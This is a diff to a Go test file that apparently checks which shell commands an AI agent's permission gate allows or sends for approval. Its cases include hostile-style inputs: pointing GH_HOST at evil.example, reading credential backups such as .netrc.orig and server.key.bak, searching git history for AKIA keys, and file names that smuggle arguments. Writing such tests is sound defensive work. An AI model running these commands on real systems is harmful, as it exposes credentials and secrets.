@@ -22,12 +22,12 @@ func TestTakenApart(t *testing.T) {
 		`GH_HOST=evil.example; export GH_HOST; gh pr list`: approval.Ask, `export GH_HOST; GH_HOST=evil.example; gh pr list`: approval.Ask, `declare -x GH_HOST; GH_HOST=evil.example; gh pr list`: approval.Ask, `TF_DATA_DIR=x; \export TF_DATA_DIR; terraform output`: approval.Ask, `TF_DATA_DIR=x; typeset -rx TF_DATA_DIR`: approval.Ask,
 		`AWS_PROFILE=dev; export AWS_PROFILE; aws s3 ls`: approval.Ask, `deploy() { ls; }; export -f deploy`: approval.Ask, `declare -r x=1; echo $x`: approval.Ask,
 		// Patterns in text that is run later.
-		`watch ls *`: approval.Ask, `watch 'ls *.tf'`: approval.Allow,
+		`watch ls *`: approval.Ask, `watch 'ls *.tf'`: approval.Ask,
 		// What is left beside a file of credentials.
 		`zcat server.key.gz`: approval.Ask, `cat server.key.bak`: approval.Ask, `cat .env~`: approval.Ask, `cat .netrc.orig`: approval.Ask, `cat main.tf.bak`: approval.Allow, `zcat app.log.gz`: approval.Allow,
 		// A dry run shows what the cluster has.
 		`kubectl label secret x a=b --dry-run=client -o yaml`: approval.Ask, `kubectl annotate secrets/x a=b --dry-run=client -ojson`: approval.Ask, `kubectl apply -f s.yaml --dry-run=client -o yaml`: approval.Ask, `kubectl scale -f s.yaml --replicas=1 --dry-run=client --output=json`: approval.Ask,
-		`kubectl apply -f a.yaml --dry-run=client`: approval.Allow, `kubectl apply -f a.yaml --dry-run=client -o name`: approval.Allow, `kubectl label pod x a=b --dry-run=client -o yaml`: approval.Allow, `kubectl create -f a.yaml --dry-run=client -o yaml`: approval.Allow,
+		`kubectl apply -f a.yaml --dry-run=client`: approval.Allow, `kubectl apply -f a.yaml --dry-run=client -o name`: approval.Allow, `kubectl label pod x a=b --dry-run=client -o yaml`: approval.Ask, `kubectl create -f a.yaml --dry-run=client -o yaml`: approval.Allow,
 		// Names that are made to be taken apart.
 		`touch 'a -e x.tf'`: approval.Ask, `mkdir 'x '`: approval.Ask, `mkdir -p 'x /root'`: approval.Ask, `touch 'my notes.md'`: approval.Allow,
 		`find . -name '*.tf' | xargs cat`: approval.Allow,
@@ -54,7 +54,7 @@ func TestTakenApart(t *testing.T) {
 		// What was looked at may be another file by then.
 		`cp evil.yaml compose.yaml; docker compose ps`: approval.Ask, `docker compose ps > out.txt`: approval.Ask, `docker compose ps`: approval.Allow,
 		// A search chooses what is put there.
-		`find tpl -type f -exec cp {} . \;`: approval.Ask, `find tpl -type f -exec cp -t sub {} +`: approval.Ask, `find . -name '*.tf' -exec cp {} backup/ \;`: approval.Allow,
+		`find tpl -type f -exec cp {} . \;`: approval.Ask, `find tpl -type f -exec cp -t sub {} +`: approval.Ask, `find . -name '*.tf' -exec cp {} backup/ \;`: approval.Ask,
 		// What was deleted is in no index.
 		`git log -p`: approval.Ask, `git log -p --all -3`: approval.Ask, `git log -p -S AKIA`: approval.Ask, `git log -p -n1 --diff-filter=D`: approval.Ask, `git log -p -3`: approval.Allow, `git log -pn2`: approval.Allow, `git log -p main..dev`: approval.Allow, `git log -p -- main.tf`: approval.Allow, `git log --all --oneline`: approval.Allow, `git log -S foo --oneline`: approval.Allow, `git log -p --since=2.days`: approval.Allow,
 	} {
